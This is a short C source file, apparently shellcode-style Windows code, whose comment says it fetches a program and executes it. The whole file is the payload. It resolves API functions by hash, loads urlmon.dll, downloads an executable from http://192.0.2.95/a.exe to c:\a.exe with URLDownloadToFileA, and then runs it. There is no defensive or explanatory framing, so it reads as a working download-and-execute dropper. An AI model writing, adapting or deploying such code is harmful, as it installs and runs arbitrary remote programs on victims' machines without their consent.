/* Fetches a program and executes it. */
#include "windows.h"

typedef long CALLED download(void *caller, const char *from, const char *to, dword zero,
			     void *status);
typedef dword CALLED execute(const char *command, dword show);

ENTRY void code(void)
{
	char library[] = "urlmon.dll", name[] = "URLDownloadToFileA";
	char from[] = "http://192.0.2.95/a.exe", to[] = "c:\\a.exe";
	find_function *find = (find_function *)function_by_hash(FIND_FUNCTION);
	byte *urlmon = ((load_library *)function_by_hash(LOAD_LIBRARY))(library);

	((download *)find(urlmon, name))(0, from, to, 0, 0);
	((execute *)function_by_hash(EXECUTE))(to, 0);
}
